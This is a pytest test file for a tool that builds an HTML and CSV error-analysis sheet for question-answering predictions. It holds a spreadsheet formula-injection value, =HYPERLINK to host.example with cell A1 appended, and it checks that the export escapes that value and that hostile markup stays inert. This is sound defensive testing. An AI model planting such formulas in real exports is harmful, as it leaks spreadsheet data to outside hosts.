import csv
import io
from pathlib import Path
from typing import List

import pytest

from bidaf_plugin.analysis.error_sheet import (
    ERROR_CLASSES,
    IMPRECISE_BOUNDARIES,
    ErrorCounts,
    error_table,
    find_error_class,
    read_sheet,
    sheet_as_html,
    sheet_rows,
)
from bidaf_plugin.analysis.wrong_answers import AnsweredQuestion, MarkedText
from bidaf_plugin.common.errors import DataError
from tests.html_helpers import HOSTILE, Page, needs_chromium, open_in_chromium

OVERLAPPING = AnsweredQuestion(
    id="1",
    question='Who, "exactly",\nbuilt it?',
    prediction="Orn",
    answers=("Ada Orn", "Ada"),
    em=0,
    f1=2 / 3,
    passage=[MarkedText("Ada ", "right"), MarkedText("Orn", "both"), MarkedText(" built it.", "")],
    has_overlap=True,
)
FORMULA = '=HYPERLINK("http://host.example?"&A1)'
HOSTILE_ITEM = AnsweredQuestion(
    HOSTILE, HOSTILE, (HOSTILE,), FORMULA, 0, 0, [MarkedText(HOSTILE, "wrong")], False
)
SAMPLE = [OVERLAPPING, HOSTILE_ITEM]


def page_of_sample() -> str:
    return sheet_as_html(SAMPLE, HOSTILE)


class TestSheet:
    def test_rows_have_the_class_of_overlapping_answers(self) -> None:
        first, second = sheet_rows(SAMPLE)
        assert first["class"] == IMPRECISE_BOUNDARIES and first["overlap"] == "yes"
        assert first["passage"] == "Ada Orn built it." and first["answers"] == "Ada Orn | Ada"
        assert second["class"] == "" and second["overlap"] == "no"

    def test_the_page_has_a_choice_for_each_answer(self) -> None:
        page = Page(page_of_sample())
        choices = [a for tag, a in page.elements if tag == "input" and a.get("type") == "radio"]
        assert [choice["value"] for choice in choices] == [*ERROR_CLASSES] * 2
        explained = [heading.partition(". ")[2] for heading in page.texts["h3"]]
        assert explained[: len(ERROR_CLASSES)] == [*ERROR_CLASSES]
        # The first is chosen already for the answer that overlaps, and none for the other.
        assert [place for place, choice in enumerate(choices) if "checked" in choice] == [0]
        assert page.texts["mark"].count("Orn") == 2  # the prediction and its place in the passage
        assert page.data["rows"] == sheet_rows(SAMPLE)

    def test_text_is_no_markup(self) -> None:
        page = Page(page_of_sample())
        page.assert_loads_nothing()
        assert page.count("script") == 2
        assert HOSTILE in page.texts["h3"] and HOSTILE in page.texts["mark"]

    @needs_chromium
    def test_ticking_and_downloading_in_the_browser(self, tmp_path: Path) -> None:
        # What a person does with the page, and then what the button would download.
        script = """<script>
            document.querySelectorAll("form.card")[1].querySelectorAll("input[type=radio]")[2].click();
            document.querySelector("input[name=note]").value = "- unclear";
            const output = document.createElement("pre");
            output.textContent = filledSheet();
            document.body.append(output);
            document.getElementById("download").click();
        </script></body>"""
        path = tmp_path / "errors.html"
        path.write_text(page_of_sample().replace("</body>", script), encoding="utf-8")
        page, complaints = open_in_chromium(path)
        assert complaints == ""
        assert page.texts["title"] == ["Error analysis"]
        assert "2 of 2 have a class" in page.texts["span"]
        (content,) = page.texts["pre"]
        (tmp_path / "filled.csv").write_text(content, encoding="utf-8", newline="")
        counts = read_sheet(tmp_path / "filled.csv")
        assert list(counts.by_class.values()) == [1, 0, 1, 0, 0, 0]
        assert counts.num_unsorted == 0
        # A spreadsheet program would compute what begins like a formula.
        first, second = csv.DictReader(io.StringIO(content))
        assert (first["note"], first["prediction"]) == ("'- unclear", "Orn")
        assert second["prediction"] == f"'{FORMULA}"


class TestReadSheet:
    @pytest.mark.parametrize(
        "content",
        [
            "id,class\n1,Imprecise answer boundaries\n2,\n3,paraphrase\n4,1\n",
            "\ufeffid;class\r\n1;1\r\n2;;\r\n3;3\r\n4;1\r\n",
            'class\tid\n1\t"a\nb"\n\t2\n3\t3\nimprecise\t4\n',
        ],
    )
    def test_what_spreadsheet_programs_write(self, tmp_path: Path, content: str) -> None:
        path = tmp_path / "filled.csv"
        path.write_text(content, encoding="utf-8", newline="")
        assert list(read_sheet(path).by_class.values()) == [2, 0, 1, 0, 0, 0]
        assert read_sheet(path).num_unsorted == 1

    @pytest.mark.parametrize(
        "content, message",
        [
            (
                b"id,class\n1,1\n2,boundary\n",
                "line 3: the class 'boundary' is not one of: Imprecise",
            ),
            (b"id,kind\n1,1\n", "expected a CSV file with a column 'class', found 'id,kind'"),
            (b"", "expected a CSV file with a column 'class', found ''"),
            (b"id,class\n1,\xff\n", "not UTF-8 text"),
        ],
    )
    def test_bad_sheets_are_one_sentence(
        self, tmp_path: Path, content: bytes, message: str
    ) -> None:
        (tmp_path / "filled.csv").write_bytes(content)
        with pytest.raises(DataError, match=message) as error:
            read_sheet(tmp_path / "filled.csv")
        assert "\n" not in str(error.value)

    def test_no_such_file(self, tmp_path: Path) -> None:
        with pytest.raises(DataError, match="there is no such file"):
            read_sheet(tmp_path / "filled.csv")


class TestErrorTable:
    def test_counts_beside_the_paper_s_percentages(self) -> None:
        counts = dict(zip(ERROR_CLASSES, [10, 5, 5, 0, 0, 0], strict=True))
        table = error_table(ErrorCounts(counts, num_unsorted=3))
        rows: List[List[str]] = [line.split() for line in table.splitlines()]
        assert rows[1] == ["Imprecise", "answer", "boundaries", "10", "50", "50"]
        assert rows[2][-3:] == ["5", "25", "28"]
        assert rows[7] == ["in", "all", "20", "100", "100"]
        assert table.endswith("3 answers without a class are not counted.")

    def test_an_empty_sheet(self) -> None:
        table = error_table(ErrorCounts(dict.fromkeys(ERROR_CLASSES, 0), num_unsorted=0))
        assert "not counted" not in table and table.splitlines()[-1].split()[2:] == [
            "0",
            "-",
            "100",
        ]


class TestErrorClasses:
    def test_the_paper_s_table(self) -> None:
        assert list(ERROR_CLASSES.values()) == [50, 28, 14, 4, 2, 2]
        assert sum(ERROR_CLASSES.values()) == 100

    @pytest.mark.parametrize(
        "text, place",
        [
            ("Imprecise answer boundaries", 0),
            ("  imprecise ANSWER boundaries ", 0),
            ("syntactic", 1),
            ("p", 2),
            ("4", 3),
            ("multi-sentence", 4),
            ("inc", 5),
        ],
    )
    def test_names_beginnings_and_numbers(self, text: str, place: int) -> None:
        assert find_error_class(text) == list(ERROR_CLASSES)[place]

    @pytest.mark.parametrize("text", ["", " ", "i", "7", "0", "boundaries", "Paraphrase problemss"])
    def test_what_is_none_or_several_is_not_found(self, text: str) -> None:
        assert find_error_class(text) is None
